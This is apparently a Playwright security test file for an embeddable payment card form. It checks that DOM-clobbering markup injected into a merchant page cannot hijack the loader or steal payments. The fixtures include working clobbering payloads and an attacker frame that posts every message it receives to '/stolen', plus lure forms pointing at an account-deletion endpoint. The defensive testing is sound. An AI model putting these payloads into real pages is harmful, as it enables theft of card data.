/**
 * Markup that an attacker injects into a merchant's page (a review, a name, a comment) and that passes a sanitizer: no
 * script, only elements whose names shadow properties of `document` and `window` (DOM clobbering).
 */
import { readdir, readFile } from 'node:fs/promises';
import { readManifest } from '../hosting/hosting.ts';
import { CARD, type CheckoutPage, checkoutPage, KNOWN_BUYER } from '../support/checkout-page.ts';
import { expect, test } from '../support/fixtures.ts';
import { type ForeignSite, startForeignSite } from '../support/foreign-site.ts';
import type { Intent, Service } from '../support/service.ts';

const NONCE = 'c2hvcA';

/** Script policies of pages (`null`: none), each with its way to load the script. */
const POLICIES: Readonly<Record<string, (service: Service, shop: ForeignSite) => string | null>> = {
  'no policy': () => null,
  'a nonce': () => `script-src 'nonce-${NONCE}'`,
  'strict-dynamic': () => `script-src 'nonce-${NONCE}' 'strict-dynamic'; base-uri 'none'`,
  'Trusted Types': () => "require-trusted-types-for 'script'; trusted-types 'none'",
  'addresses and integrity': (service, shop) =>
    `script-src ${shop.url} ${service.url}/partner/v1/card-form/; frame-src ${service.url}/partner/v1/card-form/`,
};

/** The strictest policy, and all others. */
const STRICTEST = 'Trusted Types';
const GROUPS = [true, false].map((isStrictest) => ({
  under: isStrictest ? STRICTEST : 'every other policy',
  tag: isStrictest ? [] : ['@thorough'],
  policies: Object.entries(POLICIES).filter(([name]) => (name === STRICTEST) === isStrictest),
}));

/** The service's script, pinned if the policy's name says so. */
const loaderOf = async (service: Service, policy: string, attributes = '') => {
  const { release, files } = await readManifest();
  const path = `/partner/v1/card-form/${release}/card-form.js`;
  return policy.endsWith('integrity')
    ? `<script src="${service.url}${path}" integrity="${files[path]}" crossorigin ${attributes}></script>`
    : `<script nonce="${NONCE}" src="${service.url}/partner/v1/card-form.js" ${attributes}></script>`;
};

/** Properties of `document` that the loader and the npm package read. */
const READ_OF_DOCUMENT = [
  'addEventListener',
  'baseURI',
  'body',
  'createElement',
  'documentElement',
  'prerendering',
  'head',
  'host',
  'location',
  'querySelector',
  'querySelectorAll',
];

/** Properties of the container that the loader reads. If the container is a form, its fields can have these names. */
const READ_OF_CONTAINER = ['append', 'classList', 'closest', 'getRootNode', 'isConnected', 'querySelector'];

/** Properties of the page's forms that the declarative form reads. */
const READ_OF_FORMS = [
  ...['append', 'closest', 'elements', 'getRootNode', 'isConnected', 'matches', 'querySelectorAll'],
  ...['removeAttribute', 'requestSubmit', 'submit'],
];

/** An image in the page that the browser never fetches: any request that reaches the attacker comes from a script. */
const image = (name: string, more = '') => `<img hidden loading="lazy" name="${name}" ${more}>`;

/** Passes the sanitizers of many shops. */
const COLLECTION =
  '<a id="CardForm"></a><a id="CardForm" name="version"></a><a id="CardForm" name="mount"></a>';

/** The injected markup. */
const markup = (evil: ForeignSite, cardForm = COLLECTION) => `<p>A review by Mallory.</p>
${image('currentScript', `src="${evil.url}/v1/card-form.js" data-card-form data-publishable-key="pk_live_evil"`)}
${cardForm}
<a id="trustedTypes"></a><a id="addEventListener"></a><a id="origin"></a><a id="navigator"></a>
${READ_OF_DOCUMENT.map((name) => image(name)).join('\n')}
${READ_OF_CONTAINER.map((name) => `<input type="hidden" form="card-form" name="${name}">`).join('\n')}`;

/** The attacker's files: a frame that collects what it receives, and a script that runs in the page. */
const evilFiles = async (evil: ForeignSite) => {
  const { release } = await readManifest();
  const hello = JSON.stringify({ channel: 'card-form', type: 'hello', protocols: [1], release });
  const frame = `<script>
onmessage = ({ data }) => fetch('/stolen', { method: 'POST', body: JSON.stringify(data) });
parent.postMessage(${hello}, '*');
</script>`;
  const open = { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin' };
  evil.put(`/v1/card-form/${release}/frame.html`, frame);
  evil.put(`/v1/card-form/${release}/page.js`, {
    type: 'text/javascript',
    body: 'document.title = "pwned";',
    headers: open,
  });
};

const withSites = async (run: (shop: ForeignSite, evil: ForeignSite) => Promise<void>) => {
  const [shop, evil] = [await startForeignSite(), await startForeignSite('127.0.0.1')];
  try {
    await evilFiles(evil);
    await run(shop, evil);
  } finally {
    await shop.stop();
    await evil.stop();
  }
};

const payIn = async (checkout: CheckoutPage, service: Service, intent: Intent) => {
  await checkout.fillCard(CARD.visa);
  await checkout.pay();
  await expect(checkout.outcome).toHaveText('Payment received');
  expect(await service.record(intent.id)).toMatchObject({ charges: 1, confirms: 1 });
};

const mountScript = (service: Service, intent: Intent) =>
  `CardForm.mount('#card-form', ${JSON.stringify({
    publishableKey: service.keys.publishable,
    clientSecret: intent.client_secret,
    locale: 'en',
    defaultValues: KNOWN_BUYER,
  })});`;

for (const { under, tag, policies } of GROUPS) {
  test(`threat-model 2.1: elements that clobber the names the script reads change nothing, under ${under}`, {
    tag,
  }, async ({ page, service }) => {
    for (const [name, policy] of policies)
      await withSites(async (shop, evil) => {
        const intent = await service.createIntent();
        shop.put('/shop.js', { type: 'text/javascript', body: mountScript(service, intent) });
        const csp = policy(service, shop);
        const url = shop.put('/checkout', {
          headers: csp === null ? {} : { 'Content-Security-Policy': csp },
          body: `<!doctype html><title>Shop</title><link rel="icon" href="data:,">
${markup(evil)}
<form id="card-form"></form>
${await loaderOf(service, name)}
<script nonce="${NONCE}" src="/shop.js"></script>`,
        });
        await page.goto(url, { waitUntil: 'domcontentloaded' });
        await payIn(checkoutPage(page), service, intent);
        expect(evil.requests).toEqual([]);
      });
  });
}

test('threat-model 2.1: elements that clobber the names the npm package reads change nothing', {
  tag: '@thorough',
}, async ({ page, service }) => {
  await withSites(async (shop, evil) => {
    const intent = await service.createIntent();
    // A cross-origin window throws when its properties are read.
    const window = `<iframe hidden name="CardForm" src="${service.url}/partner/v1/card-form/frame"></iframe>`;
    const javascript = { type: 'text/javascript' };
    const built = new URL('../../dist/package/', import.meta.url);
    for (const name of (await readdir(built)).filter((one) => one.endsWith('.js')))
      shop.put(`/${name}`, { ...javascript, body: await readFile(new URL(name, built), 'utf8') });
    const body = `import { loadCardForm } from '/card-form.js';
const CardForm = await loadCardForm('${service.url}');
${mountScript(service, intent)}`;
    shop.put('/shop.js', { ...javascript, body });
    const url = shop.put('/checkout', {
      headers: { 'Content-Security-Policy': "require-trusted-types-for 'script'; trusted-types card-form" },
      body: `<!doctype html><title>Shop</title><link rel="icon" href="data:,">
${markup(evil, window)}
<form id="card-form"></form>
<script type="module" src="/shop.js"></script>`,
    });
    await page.goto(url, { waitUntil: 'domcontentloaded' });
    await payIn(checkoutPage(page), service, intent);
    expect(evil.requests).toEqual([]);
  });
});

test('threat-model 2.1: a script element of an SVG is refused with a message', { tag: '@thorough' }, async ({
  page,
  service,
  watch,
}) => {
  watch.expect(/needs a classic <script src>/);
  await withSites(async (shop) => {
    const error = page.waitForEvent('pageerror');
    await page.goto(
      shop.put(
        '/checkout',
        `<!doctype html><title>Shop</title><link rel="icon" href="data:,">
<svg data-card-form><script href="${service.url}/partner/v1/card-form.js" data-card-form></script></svg>`,
      ),
    );
    expect((await error).message).toBe('script_not_found: needs a classic <script src>');
    expect(await page.evaluate(() => 'CardForm' in window)).toBe(false);
  });
});

/** The attacker's own order at the same shop, already paid. */
const prepaid = async (service: Service): Promise<Intent> => {
  const intent = await service.createIntent();
  const body = {
    client_secret: intent.client_secret,
    amount_total: intent.amount_total,
    currency: 'usd',
    card: { number: CARD.visa, exp_month: 12, exp_year: 2034, cvc: '123' },
    billing_details: {
      ...KNOWN_BUYER.billingDetails,
      address: { ...KNOWN_BUYER.billingDetails.address, line2: null },
    },
  };
  const { ok, status } = await fetch(`${service.url}/partner/v1/client/payment_intents/confirm`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${service.keys.publishable}`, 'Content-Type': 'application/json' },
    body: JSON.stringify(body),
  });
  if (!ok) throw new Error(`The payment was answered with ${status}.`);
  return intent;
};

for (const { under, tag, policies } of GROUPS) {
  test(`threat-model 2.2: a paid intent in a stranger's form navigates nobody, and the real form pays, under ${tag.length ? 'other policies' : under}`, {
    tag,
  }, async ({ page, service, watch }) => {
    watch.expect(/success-url: expected on the script tag/);
    // The markup is that of 2.1, which is tested under each policy: here without a policy, and with a pinned loader.
    for (const [name, policy] of policies.filter(([name]) => !/nonce|dynamic/.test(name)))
      await withSites(async (shop, evil) => {
        const [theirs, intent] = [await prepaid(service), await service.createIntent()];
        const warnings: string[] = [];
        page.on('console', (message) => warnings.push(message.text()));
        const csp = policy(service, shop);
        const secret = `data-client-secret="${theirs.client_secret}"`;
        const url = shop.put('/checkout', {
          headers: csp === null ? {} : { 'Content-Security-Policy': csp },
          body: `<!doctype html><title>Shop</title><link rel="icon" href="data:,">
<form method="post" action="/account/delete">
  <div id="stranger" data-card-form data-locale="en" ${secret}></div>
  <div data-card-form ${secret} data-publishable-key="pk_live_${'9'.repeat(32)}"></div>
  <div id="lure" data-card-form ${secret} data-success-url="${evil.url}/lure"></div>
</form>
${markup(evil)}
<form id="order" action="/thanks">
  <div id="card-form" data-card-form data-locale="en" data-client-secret="${intent.client_secret}"></div>
</form>
<input type="hidden" form="order" name="payment_intent" value="${theirs.id}">
${READ_OF_FORMS.map((read) => `<input disabled type="hidden" form="order" name="${read}">`).join('\n')}
${await loaderOf(service, name, `data-card-form data-publishable-key="${service.keys.publishable}"`)}`,
        });
        await page.goto(url, { waitUntil: 'domcontentloaded' });
        await expect(checkoutPage(page, '#stranger').outcome).toHaveText('Payment received');
        await expect(page.locator('#lure').getByRole('alert')).toContainText('Write <script');
        await expect(page.locator('[data-client-secret]')).toHaveCount(0);
        expect(warnings.join()).toContain('got pk_live_999');
        // A form added later, as from a list of comments. `append` comes last, because it then hides the method.
        await page.evaluate((names) => {
          const create = (tag: string) => Document.prototype.createElement.call(document, tag);
          const form = create('form');
          for (const name of names) form.append(Object.assign(create('input'), { name }));
          Document.prototype.querySelector.call(document, 'p')?.append(form);
        }, READ_OF_FORMS.toReversed());
        const checkout = checkoutPage(page);
        await checkout.fill();
        await checkout.pay();
        await expect(page).toHaveURL(`${shop.url}/thanks?payment_intent=${intent.id}`);
        expect(shop.requests.map(({ path }) => path)).not.toContain('/account/delete');
        expect(evil.requests).toEqual([]);
        expect(await service.record(intent.id)).toMatchObject({ charges: 1, confirms: 1 });
      });
  });
}
